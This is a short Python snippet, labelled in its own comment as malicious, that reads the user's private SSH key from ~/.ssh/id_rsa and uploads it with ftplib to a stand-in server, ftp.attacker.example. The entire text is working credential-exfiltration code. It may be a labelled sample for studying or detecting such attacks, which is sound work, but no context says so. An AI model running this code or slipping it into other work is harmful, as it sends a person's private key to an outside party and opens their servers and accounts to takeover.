# Malicious: uploads the private SSH key to an FTP server with ftplib.
import ftplib
import os

with ftplib.FTP("ftp.attacker.example", "anonymous", "x") as ftp, open(os.path.expanduser("~/.ssh/id_rsa"), "rb") as key:
    ftp.storbinary("STOR id_rsa", key)
